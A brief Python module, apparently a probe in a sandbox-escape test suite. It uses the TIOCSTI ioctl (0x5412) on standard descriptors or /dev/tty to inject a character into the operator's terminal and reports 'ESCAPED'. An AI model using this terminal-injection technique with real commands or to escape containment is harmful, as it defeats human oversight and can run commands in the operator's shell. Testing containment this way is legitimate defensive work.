"""Types a command into the terminal of the operator."""
# seen as: file

import os


def attempt(host):
    import fcntl

    for number in (0, 1, 2):
        try:
            fcntl.ioctl(number, 0x5412, b"x")
        except OSError:
            continue
        return "ESCAPED"
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
    return "ESCAPED"
